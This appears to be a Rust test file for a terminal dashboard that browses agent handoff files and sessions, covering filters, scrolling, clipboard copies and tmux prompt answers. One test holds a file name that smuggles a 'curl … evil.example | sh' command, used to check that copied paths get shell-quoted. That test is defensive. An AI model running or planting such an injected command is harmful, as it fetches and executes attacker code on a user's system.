use super::*;
use chrono::TimeZone;

use crate::model::handoff::entry::{HandoffKind, sort_newest_first};

fn entry(name: &str, text: &str) -> HandoffEntry {
    HandoffEntry::parse(
        PathBuf::from(format!("/p/.forge/handoffs/{name}")),
        text,
        None,
    )
    .unwrap()
}

const BLOCKED: &str =
    include_str!("../../../tests/fixtures/handoffs/agent-T-012-20261121-101502.md");
const MALFORMED: &str =
    include_str!("../../../tests/fixtures/handoffs/agent-T-011-20261121-090102.md");
const COMPLETE: &str =
    include_str!("../../../tests/fixtures/handoffs/agent-T-010-20261120-170944.md");
const SESSION: &str = include_str!("../../../tests/fixtures/handoffs/handoff-20261121-094500.md");

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 21, 12, 0, 0).unwrap()
}

/// A model over the fixture inbox plus a newer session handoff, so the blocked
/// Signal is not the newest.
fn model() -> Model {
    let mut snap = Snapshot::empty(PathBuf::from("/p"), now());
    snap.handoffs = vec![
        entry("handoff-20261121-110000.md", SESSION),
        entry("agent-T-012-20261121-101502.md", BLOCKED),
        entry("handoff-20261121-094500.md", SESSION),
        entry("agent-T-011-20261121-090102.md", MALFORMED),
        entry("agent-T-010-20261120-170944.md", COMPLETE),
    ];
    sort_newest_first(&mut snap.handoffs);
    let mut m = Model::new(snap, Thresholds::default(), now());
    m.start();
    m
}

fn names(m: &Model) -> Vec<&str> {
    m.visible().map(|h| h.file_name.as_str()).collect()
}

fn press(m: &mut Model, key: Key) -> Vec<Effect> {
    match action_for(m.mode, Some(m.focus), key) {
        Some(a) => update(m, Event::Action(a)),
        None => Vec::new(),
    }
}

#[test]
fn blocked_first_then_newest() {
    let m = model();
    assert_eq!(
        names(&m),
        [
            "agent-T-012-20261121-101502.md",
            "handoff-20261121-110000.md",
            "handoff-20261121-094500.md",
            "agent-T-011-20261121-090102.md",
            "agent-T-010-20261120-170944.md",
        ]
    );
    assert_eq!(m.focus, Pane::Inbox);
    assert_eq!(m.selected_entry().unwrap().status_word(), "blocked");
}

#[test]
fn filters_text_blocked_and_kind() {
    let mut m = model();
    press(&mut m, Key::Char('b'));
    assert_eq!(names(&m), ["agent-T-012-20261121-101502.md"]);
    press(&mut m, Key::Char('b'));
    press(&mut m, Key::Char('t'));
    assert_eq!(m.filter.kind, KindFilter::Session);
    assert!(m.visible().all(|h| h.kind == HandoffKind::Session));
    press(&mut m, Key::Char('t'));
    assert!(m.visible().all(|h| h.kind == HandoffKind::Agent));
    assert_eq!(m.visible().count(), 3);
    press(&mut m, Key::Char('t'));
    assert_eq!(m.visible().count(), 5);

    press(&mut m, Key::Char('/'));
    assert_eq!(m.mode, Mode::Filter);
    for c in "mal".chars() {
        press(&mut m, Key::Char(c));
    }
    assert_eq!(names(&m), ["agent-T-011-20261121-090102.md"]);
    press(&mut m, Key::Enter);
    assert_eq!(m.mode, Mode::Normal);
    assert_eq!(m.filter.text, "mal");
    // Esc while typing restores the previous text.
    press(&mut m, Key::Char('/'));
    press(&mut m, Key::Char('x'));
    assert!(m.visible().next().is_none());
    press(&mut m, Key::Esc);
    assert_eq!(m.filter.text, "mal");
    // Routes match too.
    press(&mut m, Key::Char('c'));
    press(&mut m, Key::Char('/'));
    for c in "planner→".chars() {
        press(&mut m, Key::Char(c));
    }
    assert_eq!(names(&m), ["agent-T-010-20261120-170944.md"]);
}

#[test]
fn movement_clamps_and_asks_for_previews() {
    let mut m = model();
    assert_eq!(press(&mut m, Key::Up), vec![]);
    let fx = press(&mut m, Key::Char('j'));
    assert_eq!(
        fx,
        vec![Effect::LoadPreview(PathBuf::from(
            "/p/.forge/handoffs/handoff-20261121-110000.md"
        ))]
    );
    press(&mut m, Key::Char('G'));
    assert_eq!(m.selected, 4);
    press(&mut m, Key::Down);
    assert_eq!(m.selected, 4);
    m.inbox_rows = 2;
    press(&mut m, Key::PageUp);
    assert_eq!(m.selected, 2);
    press(&mut m, Key::Char('g'));
    assert_eq!(m.selected, 0);
    // The preview scrolls when focused, within its text.
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Preview);
    let path = m.selected_path.clone().unwrap();
    update(
        &mut m,
        Event::PreviewLoaded {
            path,
            text: Some("a\nb\nc".into()),
        },
    );
    // Three lines in a two-row pane: one line of scrolling, no more.
    update(
        &mut m,
        Event::Viewport {
            shown: Pane::ALL.to_vec(),
            sessions_rows: 1,
            inbox_rows: 2,
            preview_rows: 2,
            preview_len: 3,
        },
    );
    press(&mut m, Key::Char('j'));
    press(&mut m, Key::Char('j'));
    press(&mut m, Key::Char('j'));
    assert_eq!(m.preview.scroll, 1);
    press(&mut m, Key::Tab);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Inbox);
    press(&mut m, Key::BackTab);
    assert_eq!(m.focus, Pane::Sessions);
}

#[test]
fn preview_scroll_stops_at_the_last_page() {
    let mut m = model();
    press(&mut m, Key::Tab);
    let path = m.selected_path.clone().unwrap();
    let text: String = (1..=30).map(|i| format!("line {i}\n")).collect();
    update(
        &mut m,
        Event::PreviewLoaded {
            path,
            text: Some(text),
        },
    );
    // Before the screen reports, the text's own line count bounds the scroll.
    assert_eq!(m.preview_len, 30);
    update(
        &mut m,
        Event::Viewport {
            shown: Pane::ALL.to_vec(),
            sessions_rows: 1,
            inbox_rows: 5,
            preview_rows: 10,
            preview_len: 34, // wrapped rows
        },
    );
    press(&mut m, Key::Char('G'));
    assert_eq!(
        m.preview.scroll, 24,
        "G shows the last page, not a blank pane"
    );
    press(&mut m, Key::PageDown);
    press(&mut m, Key::Char('j'));
    assert_eq!(m.preview.scroll, 24);
    press(&mut m, Key::Char('k'));
    assert_eq!(m.preview.scroll, 23, "one key up moves one line at once");
    press(&mut m, Key::Char('G'));
    // A taller pane (or a wider one, fewer wrapped rows) pulls the scroll back.
    update(
        &mut m,
        Event::Viewport {
            shown: Pane::ALL.to_vec(),
            sessions_rows: 1,
            inbox_rows: 5,
            preview_rows: 20,
            preview_len: 30,
        },
    );
    assert_eq!(m.preview.scroll, 10);
    // Mouse wheel too.
    update(&mut m, Event::Action(Action::Scroll(Pane::Preview, 3)));
    assert_eq!(m.preview.scroll, 10);
    // A text shorter than the pane does not scroll at all.
    update(
        &mut m,
        Event::Viewport {
            shown: Pane::ALL.to_vec(),
            sessions_rows: 1,
            inbox_rows: 5,
            preview_rows: 40,
            preview_len: 30,
        },
    );
    assert_eq!(m.preview.scroll, 0);
    press(&mut m, Key::PageDown);
    assert_eq!(m.preview.scroll, 0);
}

#[test]
fn notice_goes_after_a_while_or_at_the_next_key() {
    let mut m = model();
    let target = m.selected_path.clone().unwrap();
    let written = || Event::ResumeWritten {
        target: target.clone(),
        result: Ok(vec![PathBuf::from("/p/.forge/pending-resume")]),
    };
    update(&mut m, written());
    assert_eq!(m.notice.as_ref().unwrap().at, now());
    assert_eq!(m.notice_expires(), Some(now() + NOTICE_TTL));
    update(&mut m, Event::Tick(now() + chrono::Duration::seconds(5)));
    assert!(m.notice.is_some(), "still there after 5 s");
    update(&mut m, Event::Tick(now() + chrono::Duration::seconds(10)));
    assert!(m.notice.is_none(), "gone after 10 s");
    // Any key clears it sooner (scrolling the mouse wheel does not).
    update(&mut m, written());
    update(&mut m, Event::Action(Action::Scroll(Pane::Inbox, 1)));
    assert!(m.notice.is_some());
    press(&mut m, Key::Char('j'));
    assert!(m.notice.is_none());
}

#[test]
fn the_pending_resume_is_known_by_its_marker() {
    let mut m = model();
    let blocked = m.selected_entry().unwrap().clone();
    assert!(!m.is_pending_resume(&blocked));
    update(
        &mut m,
        Event::ResumeWritten {
            target: blocked.path.clone(),
            result: Ok(vec![]),
        },
    );
    assert!(m.is_pending_resume(&blocked));
    assert_eq!(m.visible().filter(|h| m.is_pending_resume(h)).count(), 1);
    // The marker holds the canonical path: a symlinked root still matches.
    m.snapshot.flags.pending_resume = Some(PathBuf::from(
        "/real/p/.forge/handoffs/agent-T-012-20261121-101502.md",
    ));
    assert!(m.is_pending_resume(&blocked));
    // A failed write marks nothing.
    m.snapshot.flags.pending_resume = None;
    update(
        &mut m,
        Event::ResumeWritten {
            target: blocked.path.clone(),
            result: Err("read-only".into()),
        },
    );
    assert!(!m.is_pending_resume(&blocked));
}

#[test]
fn enter_and_o_ask_for_effects_and_quit_quits() {
    let mut m = model();
    let blocked = PathBuf::from("/p/.forge/handoffs/agent-T-012-20261121-101502.md");
    assert_eq!(
        press(&mut m, Key::Enter),
        vec![Effect::WritePendingResume(blocked.clone())]
    );
    update(
        &mut m,
        Event::ResumeWritten {
            target: blocked.clone(),
            result: Ok(vec![PathBuf::from("/p/.forge/pending-resume")]),
        },
    );
    let n = m.notice.clone().unwrap();
    assert!(!n.error);
    assert!(
        n.text.contains("pending resume → agent-T-012"),
        "{}",
        n.text
    );
    assert!(n.text.contains("/p/.forge/pending-resume"));
    assert_eq!(
        press(&mut m, Key::Char('o')),
        vec![Effect::OpenEditor(blocked)]
    );
    assert_eq!(press(&mut m, Key::Char('q')), vec![Effect::Quit]);
    assert!(m.quit);
}

#[test]
fn esc_clears_the_filter_first_and_quits_when_there_is_none() {
    let mut m = model();
    // Every kind of filter: text, blocked only, kind.
    for keys in [
        &[Key::Char('/'), Key::Char('x'), Key::Enter][..],
        &[Key::Char('b')][..],
        &[Key::Char('t')][..],
    ] {
        for k in keys {
            press(&mut m, *k);
        }
        assert!(m.filter.is_active());
        assert!(press(&mut m, Key::Esc).iter().all(|fx| *fx != Effect::Quit));
        assert!(!m.filter.is_active() && !m.quit);
        assert_eq!(m.rows.len(), 5, "every handoff again");
    }
    // While typing a filter, Esc drops what was typed (and nothing else).
    press(&mut m, Key::Char('b'));
    press(&mut m, Key::Char('/'));
    press(&mut m, Key::Char('z'));
    press(&mut m, Key::Esc);
    assert!(m.filter.blocked_only && m.filter.text.is_empty() && !m.quit);
    press(&mut m, Key::Esc);
    assert!(!m.filter.is_active() && !m.quit);
    // No filter: a first Esc says how to quit; another key forgets it; two quit.
    assert!(press(&mut m, Key::Esc).is_empty());
    assert!(!m.quit);
    assert_eq!(
        m.notice.as_ref().map(|n| n.text.as_str()),
        Some("Esc again quits (q quits at once)")
    );
    press(&mut m, Key::Char('j'));
    assert!(press(&mut m, Key::Esc).is_empty() && !m.quit);
    assert_eq!(press(&mut m, Key::Esc), vec![Effect::Quit]);
    assert!(m.quit);
    // Opened from the fleet list, one Esc goes back to it (it leaves a view).
    let mut f = model();
    f.from_fleet = true;
    assert_eq!(press(&mut f, Key::Esc), vec![Effect::Quit]);
}

#[test]
fn new_files_keep_the_selection_and_removed_ones_go() {
    let mut m = model();
    press(&mut m, Key::Down);
    let sel = m.selected_path.clone();
    let newer = entry("handoff-20261121-115900.md", SESSION);
    let newer_path = newer.path.clone();
    update(
        &mut m,
        Event::HandoffsChanged(vec![(newer_path.clone(), Some(newer))]),
    );
    assert_eq!(m.rows.len(), 6);
    assert_eq!(m.selected_path, sel);
    assert_eq!(m.selected, 2);
    assert_eq!(names(&m)[1], "handoff-20261121-115900.md");
    update(&mut m, Event::HandoffsChanged(vec![(newer_path, None)]));
    assert_eq!(m.rows.len(), 5);
    assert_eq!(m.selected_path, sel);
    // Removing the selected file selects a neighbour and previews it.
    let fx = update(
        &mut m,
        Event::HandoffsChanged(vec![(sel.clone().unwrap(), None)]),
    );
    assert_ne!(m.selected_path, sel);
    assert_eq!(fx.len(), 1);
}

#[test]
fn context_view_from_the_current_session() {
    use crate::model::session::state::{Reading, SessionBridge};
    let mut m = model();
    assert!(m.context().is_none());
    let mut s = SessionBridge {
        session_id: "abc".into(),
        ..SessionBridge::default()
    };
    m.snapshot.sessions = vec![s.clone()];
    let c = m.context().unwrap();
    assert_eq!((c.pct, c.level, c.growth), (None, None, None));
    for p in [60.0, 62.0, 64.0, 66.0] {
        s.readings.push(Reading {
            at: String::new(),
            tokens: None,
            pct: p,
        });
    }
    s.used_percentage = Some(66.0);
    m.snapshot.sessions = vec![s];
    let c = m.context().unwrap();
    assert_eq!(c.level, Some(Level::L0));
    assert_eq!(c.growth, Some(2.0));
    assert_eq!(c.next, Some((Level::L1, 2)));
}

#[test]
#[allow(
    clippy::cognitive_complexity,
    reason = "one scenario, key by key, with a check after each"
)]
fn a_shows_what_forge_did_and_tab_and_keys_follow_it() {
    use crate::model::session::state::EventLine;
    let mut m = model();
    for i in 0..12 {
        m.snapshot.recent_events.push(
            serde_json::from_value::<EventLine>(serde_json::json!({
                "time": format!("2026-11-21T11:{i:02}:00Z"), "event": "Stop", "session": "s1",
                "outcomes": [{"kind": "flag_set", "flag": format!("flag-{i}")}]
            }))
            .unwrap(),
        );
    }
    assert_eq!(
        action_for(Mode::Normal, Some(Pane::Inbox), Key::Char('a')),
        Some(Action::ToggleActivity)
    );
    press(&mut m, Key::Char('a'));
    assert!(m.activity);
    assert_eq!(m.focus, Pane::Activity);
    // Newest first.
    let rows = m.activity_rows();
    assert_eq!(rows.len(), 12);
    assert_eq!(rows[0].text, "set flag-11");
    // j/G move the cursor within the list.
    press(&mut m, Key::Char('j'));
    assert_eq!(m.activity_selected, 1);
    assert_eq!(m.selected_activity().unwrap().text, "set flag-10");
    press(&mut m, Key::Char('G'));
    assert_eq!(m.activity_selected, 11);
    press(&mut m, Key::Char('j'));
    assert_eq!(m.activity_selected, 11);
    // The mouse over where the inbox was moves it too.
    update(&mut m, Event::Action(Action::Scroll(Pane::Inbox, -3)));
    assert_eq!(m.activity_selected, 8);
    // A new line lands: the cursor stays on its row (now one further down).
    let mut snap = m.snapshot.clone();
    snap.recent_events.push(
        serde_json::from_value::<EventLine>(serde_json::json!({
            "time": "2026-11-21T11:59:00Z", "event": "Stop", "session": "s1",
            "outcomes": [{"kind": "flag_set", "flag": "newest"}]
        }))
        .unwrap(),
    );
    update(&mut m, Event::StateLoaded(Box::new(snap)));
    assert_eq!(m.activity_selected, 9);
    assert_eq!(m.selected_activity().unwrap().text, "set flag-3");
    // Tab goes between the panes on screen.
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Sessions);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Activity);
    // Enter would act on a handoff that is not on screen: it is not a key of the
    // activity pane (the footer does not offer it), so nothing happens.
    assert!(press(&mut m, Key::Enter).is_empty());
    assert!(press(&mut m, Key::Char('r')).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    // The action itself, however it came (a click focused another pane meanwhile),
    // still says why it does nothing.
    assert!(update(&mut m, Event::Action(Action::Resume)).is_empty());
    assert!(
        m.notice
            .as_ref()
            .is_some_and(|n| n.error && n.text.contains("press a"))
    );
    // A filter is about the handoffs: they come back.
    press(&mut m, Key::Char('b'));
    assert!(!m.activity);
    assert_eq!(m.focus, Pane::Inbox);
    assert!(m.filter.blocked_only);
    // And `a` twice is back where it was.
    press(&mut m, Key::Char('a'));
    press(&mut m, Key::Char('a'));
    assert!(!m.activity);
    assert_eq!((m.focus, m.activity_selected), (Pane::Inbox, 0));
}

#[test]
fn r_asks_for_an_answer_and_only_enter_resolves() {
    let mut m = model();
    assert_eq!(m.selected_entry().unwrap().task(), Some("T-012"));
    assert!(press(&mut m, Key::Char('r')).is_empty());
    assert_eq!(m.mode, Mode::Answer);
    // Typed keys are the answer, not commands; control characters are dropped.
    for c in "q/b\u{1b}".chars() {
        press(&mut m, Key::Char(c));
    }
    assert_eq!(m.answer, "q/b");
    press(&mut m, Key::Backspace);
    assert_eq!(m.answer, "q/");
    // Esc writes nothing and leaves the prompt.
    assert!(press(&mut m, Key::Esc).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    assert!(!m.quit);
    press(&mut m, Key::Char('r'));
    for c in "env".chars() {
        press(&mut m, Key::Char(c));
    }
    let fx = press(&mut m, Key::Enter);
    assert_eq!(m.mode, Mode::Normal);
    match fx.as_slice() {
        [Effect::ResolveSignal { blocked, answer }] => {
            assert!(blocked.ends_with("agent-T-012-20261121-101502.md"));
            assert_eq!(answer, "env");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn r_on_a_handoff_that_is_not_blocked_says_why() {
    let mut m = model();
    press(&mut m, Key::Char('G'));
    assert!(!m.selected_entry().unwrap().is_blocked());
    assert!(press(&mut m, Key::Char('r')).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    assert!(m.notice.as_ref().unwrap().error);
}

fn bridge(
    id: &str,
    attention: &str,
    minutes_ago: i64,
) -> crate::model::session::state::SessionBridge {
    serde_json::from_value(serde_json::json!({
        "session_id": id,
        "attention": attention,
        "last_event_at": (now() - chrono::Duration::minutes(minutes_ago))
            .format("%Y-%m-%dT%H:%M:%SZ").to_string(),
        "transcript_path": format!("/home/u/.claude/projects/-p/{id}.jsonl"),
    }))
    .unwrap()
}

fn with_sessions() -> Model {
    let mut m = model();
    m.snapshot.sessions = vec![
        bridge("busy-1", "busy", 1),
        bridge("input-old", "waiting:input", 20),
        bridge("ended-1", "ended", 2),
        bridge("perm-1", "waiting:permission", 10),
        bridge("input-new", "waiting:input", 3),
        bridge("stale-perm", "waiting:permission", 45),
    ];
    m
}

fn session_ids(m: &Model) -> Vec<String> {
    m.attention_rows()
        .iter()
        .map(|s| s.session_id.clone())
        .collect()
}

#[test]
fn sessions_are_ordered_by_urgency_and_ended_or_silent_ones_leave() {
    let mut m = with_sessions();
    assert_eq!(
        session_ids(&m),
        ["perm-1", "input-new", "input-old", "busy-1"]
    );
    // The stale limit is the config's.
    m.stale_after = chrono::Duration::minutes(60);
    assert_eq!(
        session_ids(&m),
        ["perm-1", "stale-perm", "input-new", "input-old", "busy-1"]
    );
    m.stale_after = chrono::Duration::minutes(5);
    assert_eq!(session_ids(&m), ["input-new", "busy-1"]);
    // Time passes: the dashboard's clock, not the load time, decides.
    m.stale_after = chrono::Duration::minutes(30);
    update(&mut m, Event::Tick(now() + chrono::Duration::minutes(15)));
    assert_eq!(session_ids(&m), ["perm-1", "input-new", "busy-1"]);
}

#[test]
fn the_sessions_pane_has_a_cursor_d_dismisses_until_news_y_copies_enter_opens() {
    let mut m = with_sessions();
    // d is a key of the sessions pane only: elsewhere it does nothing.
    assert!(press(&mut m, Key::Char('d')).is_empty());
    assert!(m.notice.is_none());
    assert_eq!(session_ids(&m).len(), 4);
    while m.focus != Pane::Sessions {
        press(&mut m, Key::Tab);
    }
    press(&mut m, Key::Down);
    assert_eq!(m.selected_session().unwrap().session_id, "input-new");
    assert_eq!(
        press(&mut m, Key::Char('y')),
        [Effect::Copy("input-new".into())]
    );
    // Enter and o open its conversation (never "resume" here).
    for key in [Key::Enter, Key::Char('o')] {
        assert_eq!(
            press(&mut m, key),
            [Effect::OpenTranscript(
                "/home/u/.claude/projects/-p/input-new.jsonl".into()
            )]
        );
    }
    assert_eq!(m.live_counts(), (4, 0));
    press(&mut m, Key::Char('d'));
    assert_eq!(session_ids(&m), ["perm-1", "input-old", "busy-1"]);
    assert_eq!(m.selected_session().unwrap().session_id, "input-old");
    // Dismissed is hidden, not ended: it still counts as live.
    assert_eq!(m.live_counts(), (4, 1));
    // News from the dismissed session brings it back.
    let mut snap = m.snapshot.clone();
    for s in &mut snap.sessions {
        if s.session_id == "input-new" {
            s.last_event_at = Some("2026-11-21T11:59:00Z".into());
            s.attention = Some(crate::model::session::state::Attention::WaitingPermission);
        }
    }
    update(&mut m, Event::StateLoaded(Box::new(snap)));
    assert_eq!(session_ids(&m)[..2], ["input-new", "perm-1"]);
}

#[test]
fn the_gauge_follows_the_latest_live_session_and_s_picks_another() {
    let mut m = with_sessions();
    // The ended session is the newest bridge, but the gauge follows a live one.
    let mut ended = bridge("ended-new", "ended", 0);
    ended.used_percentage = Some(91.0);
    m.snapshot.sessions.insert(0, ended);
    m.snapshot.sessions[1].used_percentage = Some(40.4);
    m.snapshot.compactions_by_session.insert("busy-1".into(), 2);
    let c = m.context().unwrap();
    assert_eq!(c.session_id, "busy-1");
    assert_eq!(c.pct, Some(40.0));
    assert_eq!(c.compactions, 2);
    assert!(!c.pinned);
    // s steps through the live sessions, newest first, then follows again.
    let mut seen = Vec::new();
    for _ in 0..5 {
        assert!(press(&mut m, Key::Char('s')).is_empty());
        let c = m.context().unwrap();
        seen.push((c.session_id, c.pinned));
    }
    let ids: Vec<&str> = seen.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(
        ids,
        ["busy-1", "input-new", "perm-1", "input-old", "busy-1"]
    );
    assert!(seen[..4].iter().all(|(_, p)| *p));
    assert!(!seen[4].1, "after the last live session it follows again");
    assert!(m.notice.as_ref().unwrap().text.contains("following"));
    // With every session ended, it shows the most recent one.
    for s in &mut m.snapshot.sessions {
        s.attention = Some(crate::model::session::state::Attention::Ended);
    }
    assert_eq!(m.context().unwrap().session_id, "ended-new");
}

fn viewport(m: &mut Model, shown: &[Pane], inbox_rows: u16, sessions_rows: u16) {
    update(
        m,
        Event::Viewport {
            shown: shown.to_vec(),
            sessions_rows,
            inbox_rows,
            preview_rows: 5,
            preview_len: 0,
        },
    );
}

#[test]
fn tab_skips_the_panes_the_frame_does_not_show() {
    let mut m = with_sessions();
    viewport(&mut m, &Pane::ALL, 3, 2);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Preview);
    // A smaller frame drops the preview: focus leaves it, and Tab never lands on it.
    viewport(&mut m, &[Pane::Inbox, Pane::Sessions], 3, 2);
    assert_eq!(m.focus, Pane::Inbox);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Sessions);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Inbox);
    press(&mut m, Key::BackTab);
    assert_eq!(m.focus, Pane::Sessions);
    // Only the inbox: Tab stays.
    viewport(&mut m, &[Pane::Inbox], 3, 1);
    press(&mut m, Key::Tab);
    assert_eq!(m.focus, Pane::Inbox);
}

#[test]
fn a_click_focuses_the_pane_and_selects_the_row_under_it() {
    let mut m = with_sessions();
    viewport(&mut m, &Pane::ALL, 3, 2);
    // The inbox shows rows 0..3; a click on its third row selects it and loads it.
    let fx = update(&mut m, Event::Action(Action::Click(Pane::Inbox, Some(2))));
    assert_eq!(m.selected, 2);
    assert!(matches!(fx.as_slice(), [Effect::LoadPreview(_)]), "{fx:?}");
    // Scrolled down, the rows shown start further on.
    press(&mut m, Key::Char('G'));
    let last = m.rows.len() - 1;
    update(&mut m, Event::Action(Action::Click(Pane::Inbox, Some(0))));
    assert_eq!(m.selected, last - 2);
    // Past the last row, or on the title: focus only.
    update(
        &mut m,
        Event::Action(Action::Click(Pane::Sessions, Some(1))),
    );
    assert_eq!(m.focus, Pane::Sessions);
    assert_eq!(m.selected_session().unwrap().session_id, "input-new");
    update(
        &mut m,
        Event::Action(Action::Click(Pane::Sessions, Some(9))),
    );
    assert_eq!(m.selected_session().unwrap().session_id, "input-new");
    update(&mut m, Event::Action(Action::Click(Pane::Preview, None)));
    assert_eq!(m.focus, Pane::Preview);
}

#[test]
fn y_copies_the_handoff_path_or_the_session_id_and_ctrl_z_suspends() {
    let mut m = with_sessions();
    let path = m.selected_entry().unwrap().path.display().to_string();
    assert_eq!(press(&mut m, Key::Char('y')), [Effect::Copy(path)]);
    assert_eq!(press(&mut m, Key::Suspend), [Effect::Suspend]);
    press(&mut m, Key::Char('?'));
    assert_eq!(press(&mut m, Key::Suspend), [Effect::Suspend]);
    // The help scrolls, and opens at its top again.
    press(&mut m, Key::PageDown);
    press(&mut m, Key::Char('j'));
    assert_eq!(m.help_scroll, 11);
    press(&mut m, Key::Char('k'));
    assert_eq!(m.help_scroll, 10);
    press(&mut m, Key::Esc);
    press(&mut m, Key::Char('?'));
    assert_eq!(m.help_scroll, 0);
}

/// Issue 31, row 7: a handoff a repository ships may be named
/// `agent-T-1$(curl -s evil.example|sh)-….md`; `y` copied that path raw, and a
/// paste into a shell ran it. Now what is copied is quoted for a shell whenever it
/// holds more than a path's plain characters.
#[test]
fn y_copies_a_hostile_handoff_name_quoted_for_a_shell() {
    let mut m = model();
    let hostile = "agent-T-1$(curl -s evil.example|sh)-20261121-120000.md";
    m.snapshot.handoffs.insert(0, entry(hostile, BLOCKED));
    m.start();
    let at = m.visible().position(|h| h.file_name == hostile).unwrap();
    m.selected = at;
    let got = press(&mut m, Key::Char('y'));
    let want = format!("'/p/.forge/handoffs/{hostile}'");
    assert_eq!(got, [Effect::Copy(want)]);
    // A quote inside is closed, escaped and reopened.
    assert_eq!(
        super::update::for_clipboard("/p/it's $(x).md"),
        "'/p/it'\\''s $(x).md'"
    );
    // A plain path stays as it is.
    assert_eq!(
        super::update::for_clipboard("/p/.forge/handoffs/handoff-20261121-110000.md"),
        "/p/.forge/handoffs/handoff-20261121-110000.md"
    );
}

fn git_at(at: &str, branch: &str, n: u64) -> crate::model::session::state::GitCache {
    crate::model::session::state::GitCache {
        updated_at: at.into(),
        branch: Some(branch.into()),
        uncommitted_changes: n,
        ..Default::default()
    }
}

#[test]
fn git_facts_redraw_only_when_they_changed() {
    let mut m = model();
    let main = git_at("2026-11-21T12:00:00Z", "main", 0);
    assert!(m.git_differs(&main), "none shown yet");
    assert!(update(&mut m, Event::GitLoaded(main.clone())).is_empty());
    assert_eq!(m.snapshot.branch(), Some("main"));
    // The same facts, computed later: nothing to redraw.
    assert!(!m.git_differs(&git_at("2026-11-21T12:00:09Z", "main", 0)));
    let moved = git_at("2026-11-21T12:00:10Z", "feat/x", 2);
    assert!(m.git_differs(&moved));
    update(&mut m, Event::GitLoaded(moved));
    assert_eq!(
        (m.snapshot.branch(), m.snapshot.uncommitted()),
        (Some("feat/x"), Some(2))
    );
}

#[test]
fn a_reload_keeps_git_facts_newer_than_the_cache_file() {
    let mut m = model();
    assert_eq!(m.fresher_git(None), None);
    let cache = git_at("2026-11-21T12:00:00Z", "main", 0);
    assert_eq!(m.fresher_git(Some(cache.clone())), Some(cache.clone()));
    // The poller saw a checkout after a slow hook computed its facts.
    let live = git_at("2026-11-21T12:00:05Z", "feat/x", 0);
    update(&mut m, Event::GitLoaded(live.clone()));
    assert_eq!(m.fresher_git(Some(cache)), Some(live.clone()));
    assert_eq!(m.fresher_git(None), Some(live.clone()), "no cache yet");
    // A hook's newer facts (or the same second) win.
    let hook = git_at("2026-11-21T12:00:05Z", "feat/x", 1);
    assert_eq!(m.fresher_git(Some(hook.clone())), Some(hook));
}

#[test]
fn the_sessions_cursor_stays_within_a_list_that_shrank() {
    let mut m = with_sessions();
    viewport(&mut m, &Pane::ALL, 3, 2);
    while m.focus != Pane::Sessions {
        press(&mut m, Key::Tab);
    }
    press(&mut m, Key::Char('G'));
    assert_eq!(m.sessions_selected, 3);
    // Three of the four go: the cursor is on the last one left, and k moves at once.
    let mut snap = m.snapshot.clone();
    snap.sessions
        .retain(|s| s.session_id == "perm-1" || s.session_id == "input-new");
    update(&mut m, Event::StateLoaded(Box::new(snap)));
    assert_eq!(m.sessions_selected, 1);
    press(&mut m, Key::Char('k'));
    assert_eq!(m.selected_session().unwrap().session_id, "perm-1");
    update(
        &mut m,
        Event::Action(Action::Click(Pane::Sessions, Some(1))),
    );
    assert_eq!(m.selected_session().unwrap().session_id, "input-new");
}

/// p and n in the sessions pane answer the selected session's permission prompt in
/// its tmux pane (the loop reads the pane before sending); a session out of tmux,
/// or one not waiting for a permission, is said, and nothing is asked.
#[test]
fn p_and_n_answer_a_sessions_permission_prompt_in_its_pane() {
    use crate::model::agents::pane::Answer;
    use crate::model::dashboard::fleet::AnswerRequest;
    let mut m = with_sessions();
    for s in &mut m.snapshot.sessions {
        if s.session_id == "perm-1" {
            s.tmux_pane = Some("%4".into());
            s.tmux_socket = Some("/tmp/tmux-1/default".into());
        }
    }
    // Elsewhere than the sessions pane, p does nothing.
    assert!(press(&mut m, Key::Char('p')).is_empty());
    while m.focus != Pane::Sessions {
        press(&mut m, Key::Tab);
    }
    assert_eq!(m.selected_session().unwrap().session_id, "perm-1");
    let want = |answer| {
        vec![Effect::AnswerPane(AnswerRequest {
            root: m.snapshot.root.clone(),
            session: "perm-1".into(),
            pane: "%4".into(),
            socket: Some("/tmp/tmux-1/default".into()),
            answer,
        })]
    };
    let (approve, deny) = (want(Answer::Approve), want(Answer::Deny));
    assert_eq!(press(&mut m, Key::Char('p')), approve);
    assert_eq!(press(&mut m, Key::Char('n')), deny);
    update(
        &mut m,
        Event::PaneAnswered(Ok(
            "approved the permission prompt of %4 (sent Enter)".into()
        )),
    );
    assert!(m.notice.as_ref().unwrap().text.starts_with("approved"));
    // The next row waits for input, not a permission; and runs outside tmux.
    press(&mut m, Key::Down);
    assert!(press(&mut m, Key::Char('p')).is_empty());
    let n = m.notice.as_ref().unwrap();
    assert!(n.error && n.text.contains("does not run in tmux"), "{n:?}");
}

/// The sessions model with perm-1 (waiting for a permission) and input-new
/// (waiting for input) in tmux pane %4, focus on the sessions pane.
fn sessions_in_tmux() -> Model {
    let mut m = with_sessions();
    for s in &mut m.snapshot.sessions {
        if s.session_id == "perm-1" || s.session_id == "input-new" {
            s.tmux_pane = Some("%4".into());
            s.tmux_socket = Some("/tmp/tmux-1/default".into());
        }
    }
    // Elsewhere than the sessions pane, i does nothing.
    assert!(press(&mut m, Key::Char('i')).is_empty());
    assert_eq!(m.mode, Mode::Normal);
    while m.focus != Pane::Sessions {
        press(&mut m, Key::Tab);
    }
    m
}

/// i in the sessions pane types the selected session's next prompt, as the fleet
/// list's i does: Enter asks the loop to type it into its tmux pane (which reads
/// the pane first), Esc cancels, an empty prompt sends nothing. Letters are text
/// while typing (q, t and p too).
#[test]
fn i_types_a_sessions_next_prompt_into_its_pane() {
    use crate::model::dashboard::fleet::PromptRequest;
    let mut m = sessions_in_tmux();
    press(&mut m, Key::Down);
    assert_eq!(m.selected_session().unwrap().session_id, "input-new");
    press(&mut m, Key::Char('i'));
    assert_eq!(m.mode, Mode::Answer);
